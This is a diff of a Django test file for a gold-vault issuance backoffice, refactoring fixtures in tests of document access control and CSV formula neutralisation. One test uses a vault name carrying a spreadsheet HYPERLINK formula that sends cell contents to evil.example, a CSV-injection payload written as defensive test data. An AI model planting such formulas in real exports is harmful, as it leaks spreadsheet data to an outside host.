@@ -28,9 +28,9 @@ from backoffice.core.files import file_store
 from backoffice.multisig.models import MultisigRole, Signer
 from backoffice.multisig.services import signer_bind
 from issuance import services
-from issuance.models import Audit, Deposit
+from issuance.models import Audit, Deposit, Vault
 from issuance.models.deposits import RECEIPT
-from issuance.tests.factories import VaultFactory, bar_csv, upload, user_with_role
+from issuance.tests.factories import bar_csv, upload, user_with_role
 
 pytestmark = pytest.mark.django_db
 
@@ -41,6 +41,10 @@ def logged_in(user: User) -> Client:
     return client
 
 
+def _vault() -> Vault:
+    return Vault.objects.get_or_create(name="Vault S", defaults={"location": "Zurich"})[0]
+
+
 @pytest.fixture
 def people(roles: None) -> dict[str, User]:
     return {role: user_with_role(role, username=role) for role in Role.ALL}
@@ -48,13 +52,13 @@ def people(roles: None) -> dict[str, User]:
 
 @pytest.fixture
 def deposit(people: dict[str, User]) -> Deposit:
-    return services.deposit_create(reference="DEP-SEC-1", depositor="Refinery SA", vault=VaultFactory(),
+    return services.deposit_create(reference="DEP-SEC-1", depositor="Refinery SA", vault=_vault(),
                                    actor=people[Role.OPERATOR])
 
 
 @pytest.fixture
 def audit(people: dict[str, User]) -> Audit:
-    audit = services.audit_plan(vault=VaultFactory(), as_of=timezone.localdate(),
+    audit = services.audit_plan(vault=_vault(), as_of=timezone.localdate(),
                                 auditor=people[Role.AUDITOR], firm="Assay LLP", actor=people[Role.OPERATOR])
     return services.audit_start_fieldwork(audit_id=audit.pk, actor=people[Role.AUDITOR])
 
@@ -157,7 +161,7 @@ def test_stored_documents_are_served_only_to_who_may_view_the_object(people: dic
     assert Client().get(url).status_code == 302  # to the login page
     assert logged_in(people[Role.COMPLIANCE_OFFICER]).get(url).status_code in (403, 404)
     response = logged_in(people[Role.CUSTODIAN]).get(url)
-    assert response.status_code == 200 and b"".join(response.streaming_content) == b"%PDF receipt"
+    assert response.status_code == 200 and response.getvalue() == b"%PDF receipt"
     assert logged_in(people[Role.CUSTODIAN]).get(
         reverse("admin:issuance_deposit_file", args=[deposit.pk, "created_by"])).status_code == 404
 
@@ -167,7 +171,7 @@ def test_stored_documents_are_served_only_to_who_may_view_the_object(people: dic
 
 def test_the_public_bar_list_csv_neutralises_formulas_in_every_column_and_names_no_one(
         people: dict[str, User]) -> None:
-    vault = VaultFactory(name='=HYPERLINK("http://evil.example/?x="&A1,"Vault")')
+    vault = Vault.objects.create(name='=HYPERLINK("http://evil.example/?x="&A1,"Vault")', location="Zurich")
     operator, custodian, auditor = people[Role.OPERATOR], people[Role.CUSTODIAN], people[Role.AUDITOR]
     deposit = services.deposit_create(reference="DEP-CSV", depositor="Refinery SA", vault=vault, actor=operator)
     # Serials and refiners that look like formulas are refused at import (issuance.barlist); a vault's name is
@@ -185,7 +189,7 @@ def test_the_public_bar_list_csv_neutralises_formulas_in_every_column_and_names_
 
     response = Client().get("/reserve/bars.csv")
     assert response.status_code == 200
-    text = b"".join(response.streaming_content).decode()
+    text = response.getvalue().decode()
     table = list(csv.reader(io.StringIO(text)))
     assert len(table) == 4
     for row in table[1:]:
